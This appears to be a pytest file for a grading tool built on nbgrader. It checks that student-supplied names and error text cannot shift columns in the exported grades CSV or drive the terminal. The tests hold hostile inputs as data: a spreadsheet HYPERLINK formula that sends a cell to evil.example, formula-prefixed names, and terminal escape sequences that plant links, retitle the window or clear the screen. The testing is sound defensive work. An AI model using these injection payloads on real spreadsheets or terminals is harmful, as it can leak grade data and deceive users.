"""Records that student text cannot bend: the grades CSV and the grade table on the terminal.

Names on the class list come from students (or from whoever typed them into the LMS), a
student id is a folder's name, and errors, notes and feedback quote what a student's code
raised or printed. Each attack is shown working without our protection (nbgrader's own
``CsvExportPlugin``; report.py with ``plain`` taken out), then failing with it
(``SafeCsvExportPlugin``, what ``python -m autograder export`` writes; ``report.plain``).
Real nbgrader, a real SQLite gradebook, a real rich console; no kernel.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins import CsvExportPlugin, ExportPlugin
from rich.console import Console

from autograder.grader import gradebook
from autograder.grader.course import Course
from autograder.grader.grades_csv import FORMULA_START, SafeCsvExportPlugin, export_grades
from autograder.grader.roster import Student
from autograder.grader.steps import report
from autograder.records import SubmissionResult, TestResult

from helpers import TINY_ID

pytestmark = pytest.mark.filterwarnings("ignore:.*not in session")  # nbgrader 0.9 noise

FULL = {"test_add": TestResult(3, 3, "passed"), "test_add_strings": TestResult(2, 2, "passed")}


def export_with(plugin_class: type[ExportPlugin], course: Course, out: Path, **options
                ) -> Path:
    """The gradebook exported by ``plugin_class``, as ``nbgrader export --to out`` runs it."""
    plugin = plugin_class(to=str(out), **options)
    with Gradebook(course.db, course.id) as gb:
        plugin.export(gb)
    return out


def rows_of(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def cells_of(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


# -- the grades CSV: columns ------------------------------------------------------------------

def test_commas_and_quotes_in_a_name_cannot_move_a_score(tiny_gradebook_course, tmp_path):
    course = tiny_gradebook_course
    gradebook.save_merged(course, [SubmissionResult.of_tests(
        "amy", FULL, submitted_at="2026-12-01T23:00:00+01:00")])
    gradebook.name_students(course, [  # "nobody" submitted nothing
        Student("nobody", first_name='Jo, Jr."', last_name='"Doe', email="jo@example.edu"),
        Student("amy", first_name="Amy", last_name="Lee", email="amy@example.edu")])
    common = {"assignment": course.assignment_id, "duedate": "", "max_score": "5.0"}
    expected = {
        "nobody": {**common, "timestamp": "", "student_id": "nobody", "last_name": '"Doe',
                   "first_name": 'Jo, Jr."', "email": "jo@example.edu", "raw_score": "0.0",
                   "late_submission_penalty": "0.0", "score": "0.0", "late": ""},
        "amy": {**common, "timestamp": "2026-12-01 22:00:00", "student_id": "amy",
                "last_name": "Lee", "first_name": "Amy", "email": "amy@example.edu",
                "raw_score": "5.0", "late_submission_penalty": "0.0", "score": "5.0"},
    }

    # Without: the quote opens a field that swallows a comma, so every later column moves
    # one to the left and the student who submitted nothing reads the maximum as the score.
    theirs = {r["student_id"]: r for r in rows_of(export_with(CsvExportPlugin, course,
                                                              tmp_path / "nbgrader.csv"))}
    assert theirs["nobody"]["score"] == "5.0" and theirs["nobody"]["max_score"] is None
    assert theirs["amy"] == expected["amy"]
    expected["amy"]["late"] = ""  # ours adds the column (the student's own lateness)

    # With: every row reads back exactly as the gradebook holds it.
    ours = rows_of(export_grades(course, tmp_path / "ours.csv"))
    assert {r["student_id"]: r for r in ours} == expected
    assert len(ours) == 2


DR = TINY_ID


@pytest.mark.parametrize(("options", "rows"), [
    ({}, [(DR, "amy", "4.0"), (DR, "bob", "0.0"), (DR, "cat", "0.0"),
          ("quiz", "amy", "0.0"), ("quiz", "bob", "0.0"), ("quiz", "cat", "0.0")]),
    ({"student": ["amy"]}, [(DR, "amy", "4.0"), ("quiz", "amy", "0.0")]),
    ({"assignment": ["quiz"]}, [("quiz", "amy", "0.0"), ("quiz", "bob", "0.0"),
                                ("quiz", "cat", "0.0")]),
    ({"assignment": [DR], "student": ["bob", "amy"]}, [(DR, "amy", "4.0"), (DR, "bob", "0.0")]),
], ids=["everything", "one-student", "one-assignment", "both"])
def test_same_rows_and_values_as_nbgraders_export(tiny_gradebook_course, tmp_path, options,
                                                  rows):
    """Where nbgrader's exporter is not broken (names without commas or quotes), ours reads
    back the same, row for row: its filters and order, late penalties (amy: 5 less 1; bob:
    3 less 4, never below zero), a due date, a submission time, a student with no submission."""
    course = tiny_gradebook_course
    gradebook.save_merged(course, [
        SubmissionResult.of_tests("amy", FULL, submitted_at="2026-12-01T23:00:00+01:00"),
        SubmissionResult.of_tests("bob", {**FULL, "test_add_strings": TestResult(0, 2, "no")})])
    gradebook.name_students(course, [Student("amy", first_name="Amy", last_name="Lee"),
                                     Student("bob", last_name="Ng"),
                                     Student("cat", last_name="Ortiz", email="cat@example.edu")])
    with Gradebook(course.db, course.id) as gb:
        gb.add_assignment("quiz", duedate=datetime(2026, 12, 1, 22, 59))
        gb.add_submission("quiz", "amy", timestamp=datetime(2026, 12, 2, 8, 0))
        for student, penalty in (("amy", 1.0), ("bob", 4.0)):
            gb.find_submission_notebook(course.notebook_id, course.assignment_id,
                                        student).late_submission_penalty = penalty
        gb.db.commit()

    theirs = rows_of(export_with(CsvExportPlugin, course, tmp_path / "nbgrader.csv", **options))
    ours = rows_of(export_with(SafeCsvExportPlugin, course, tmp_path / "ours.csv", **options))
    assert [{k: v for k, v in r.items() if k != "late"} for r in ours] == theirs
    assert [(r["assignment"], r["student_id"], r["score"]) for r in ours] == rows
    # Ours adds `late`: a penalty recorded (amy's and bob's), a time past the due date (quiz)
    late = {(DR, "amy"), (DR, "bob"), ("quiz", "amy")}
    assert {(r["assignment"], r["student_id"]) for r in ours if r["late"] == "yes"} == {
        row[:2] for row in rows} & late
    assert {r["late"] for r in ours} <= {"yes", ""}


# -- the grades CSV: formulas -----------------------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/?"&B2,"grades")'
FORMULAS = [LINK, "+1", "-2+3", "@SUM(1)", "\t=1+2"]
FORMULA_STUDENTS = [Student("link", last_name=LINK), Student("plus", first_name="+1"),
                    Student("-2+3"),  # a student id is a folder's name
                    Student("at", email="@SUM(1)"), Student("tab", last_name="\t=1+2")]


def test_formulas_in_names_reach_the_spreadsheet_as_text(tiny_gradebook_course, tmp_path):
    course = tiny_gradebook_course
    gradebook.name_students(course, FORMULA_STUDENTS)

    # Without: each value begins a cell of its own (what ends at a comma, for the link).
    theirs = set(cells_of(export_with(CsvExportPlugin, course, tmp_path / "nbgrader.csv")))
    assert {value.split(",")[0] for value in FORMULAS} <= theirs

    # With: each is one quoted field behind a single quote, and no cell starts a formula.
    out = export_grades(course, tmp_path / "ours.csv")
    text = out.read_text(encoding="utf-8")
    for value in FORMULAS:
        assert '"\'' + value.replace('"', '""') + '"' in text
    ours = cells_of(out)
    assert {"'" + value for value in FORMULAS} <= set(ours)
    assert not [cell for cell in ours if cell.startswith(FORMULA_START)]


def test_numbers_stay_bare_numbers_even_negative(tiny_gradebook_course, tmp_path):
    """Scores are the gradebook's floats, never student text: written bare, never prefixed
    (a spreadsheet reads -1.0 as a number); score is never below zero, as in nbgrader."""
    course = tiny_gradebook_course
    gradebook.save_merged(course, [SubmissionResult.of_tests(
        "neg", {**FULL, "test_add": TestResult(-3, 3, "a manual deduction")})])
    text = export_grades(course, tmp_path / "ours.csv").read_text(encoding="utf-8")
    assert text.splitlines()[1] == f'"{TINY_ID}","","","neg","","","",-1.0,0.0,0.0,5.0,""'


# -- the terminal -----------------------------------------------------------------------------

MARKUP = "[bold red]x[/]"
OSC8 = "\x1b]8;;http://evil.example\x1b\\click me\x1b]8;;\x1b\\"  # a link, ST-terminated
TITLE = "\x1b]0;pwned\x07"  # the window's title (rich drops the BEL, not the ESC)
CLEAR = "\x1b[2J"  # clears the screen
C1_CLEAR = "\x9b2J"  # the same with the one-character CSI
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own styling


def hostile_results() -> list[SubmissionResult]:
    raised = f"ValueError: {MARKUP} {OSC8} {CLEAR}\x07 {C1_CLEAR}"
    return [
        SubmissionResult.of_tests("eve[reverse]", {
            "test_add": TestResult(0, 3, raised), "test_add_strings": FULL["test_add_strings"]},
            error=raised),
        SubmissionResult.of_tests("mallory", {**FULL, "test_add": TestResult(1, 3, TITLE)},
                                  notes=[f"stderr: {OSC8}", f"wrote {TITLE}out.txt"]),
    ]


def rendered(results: list[SubmissionResult]) -> str:
    """What ``grade`` prints (the table, then the lost points) on a colour terminal."""
    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=400)
    report.print_table(results, console)
    report.print_feedback(results, console)
    return out.getvalue()


def test_student_text_cannot_drive_the_terminal(monkeypatch):
    results = hostile_results()

    with monkeypatch.context() as m:  # without: report.py handing rich the text as it came
        m.setattr(report, "plain", lambda text: text)
        raw = rendered(results)
    assert "\x1b]8;;http://evil.example\x1b\\" in raw and "\x1b]0;pwned" in raw
    assert CLEAR in raw and C1_CLEAR in raw
    assert "\x1b[1;31mx" in raw and MARKUP not in SGR.sub("", raw)  # the markup styled it

    visible = SGR.sub("", rendered(results))  # rich's styling aside, no control is left
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", visible)
    for words in (MARKUP, "eve[reverse]", "]8;;http://evil.example\\click me", "[2J",
                  "]0;pwnedout.txt", "test_add (0/3): ValueError", "mallory"):
        assert words in visible


def test_plain_keeps_tab_and_newline_and_drops_every_other_control():
    assert report.plain("a\tb\nc\x00\x1b[2J\x07\r\x7f\x85\x9b[bold]é") == "a\tb\nc[2J\\[bold]é"
